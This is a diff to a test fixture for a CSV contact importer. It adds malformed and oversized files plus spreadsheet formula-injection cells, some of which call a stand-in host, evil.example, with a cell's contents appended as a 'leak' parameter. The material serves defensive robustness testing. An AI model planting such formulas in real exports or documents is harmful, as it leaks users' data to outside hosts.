@@ -1,6 +1,7 @@
 // Broken and hostile files, each with what must come of it: a whole-import failure with a clear code, or a
 // completed import whose rows say what happened to them. Never a crash, a hang or unbounded memory.
 
+import type { CustomField } from '../../../shared/domain/fields.js';
 import { seededRandom } from './faults.js';
 
 export type Expected =
@@ -18,6 +19,8 @@ export interface HostileFile {
   expected: Expected;
   /** Too large for the API's 10 MiB request limit, or too slow to send twice: engine only. */
   engineOnly?: boolean;
+  /** Custom fields the workspace has before the file is imported. */
+  customFields?: CustomField[];
 }
 
 const utf8 = (text: string) => Buffer.from(text, 'utf8');
@@ -32,6 +35,8 @@ export const INJECTION_CELLS = [
   '\t=1+1',
   '\r=1+1',
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  ' =1+1',
+  '\n=HYPERLINK("http://evil.example")',
 ];
 
 const randomBytes = (seed: number, length: number) => {
@@ -53,7 +58,71 @@ const csvQuote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
 
 export const TEN_MB = 10_000_000;
 
+const textField = (key: string): CustomField => ({ key, label: key, type: 'text' });
+const WIDE_FIELDS = Array.from({ length: 220 }, (_, i) => textField(`f${i}`));
+
+/** What left imports `running` for good (issue 18): storage refused a contact, and every retry met it again. */
+export const stuckImportTriggers = (): HostileFile[] => [
+  {
+    name: 'a custom field keyed constructor',
+    customFields: [textField('constructor')],
+    bytes: utf8('Email,constructor\nann@x.com,hello\nbob@x.com,world\n'),
+    expected: { status: 'completed', counts: { rows: 2, created: 2 } },
+  },
+  {
+    name: 'a contact over the 400 KB item limit: 220 text custom fields of 2,040 characters',
+    customFields: WIDE_FIELDS,
+    bytes: utf8(
+      [
+        ['Email', ...WIDE_FIELDS.map((f) => f.key)].join(','),
+        ['wide@x.com', ...WIDE_FIELDS.map((_, i) => String(i % 10).repeat(2040))].join(','),
+        'narrow@x.com',
+      ].join('\n'),
+    ),
+    expected: {
+      status: 'completed',
+      counts: { rows: 2, created: 1, errored: 1 },
+      errors: ['value_too_long'],
+    },
+  },
+  {
+    name: 'a contact over the item limit by merging: 220 fields filled 20 at a time',
+    customFields: WIDE_FIELDS,
+    bytes: utf8(
+      [
+        ['Email', ...WIDE_FIELDS.map((f) => f.key)].join(','),
+        ...Array.from({ length: 11 }, (_, r) =>
+          [
+            'grow@x.com',
+            ...WIDE_FIELDS.map((_, i) => (Math.floor(i / 20) === r ? 'g'.repeat(2040) : '')),
+          ].join(','),
+        ),
+      ].join('\n'),
+    ),
+    // 190 fields fit (about 390 KB with the rest), the row that would bring 200 or more is errored.
+    expected: {
+      status: 'completed',
+      counts: { rows: 11, created: 1, updated: 8, errored: 2 },
+      errors: ['value_too_long', 'value_too_long'],
+    },
+  },
+  {
+    name: 'tags merged without a cap: 70 rows of 100 tags for one email',
+    bytes: utf8(
+      [
+        'Email,Tags',
+        ...Array.from(
+          { length: 70 },
+          (_, r) => `many@x.com,${Array.from({ length: 100 }, (_, t) => `tag-${r}-${t}`).join(';')}`,
+        ),
+      ].join('\n'),
+    ),
+    expected: { status: 'completed', counts: { rows: 70, created: 1, errored: 69 } },
+  },
+];
+
 export const hostileCorpus = (): HostileFile[] => [
+  ...stuckImportTriggers(),
   { name: 'random bytes', bytes: randomBytes(1, 64 * 1024), expected: failed('not_csv') },
   {
     name: 'random bytes after a valid header',
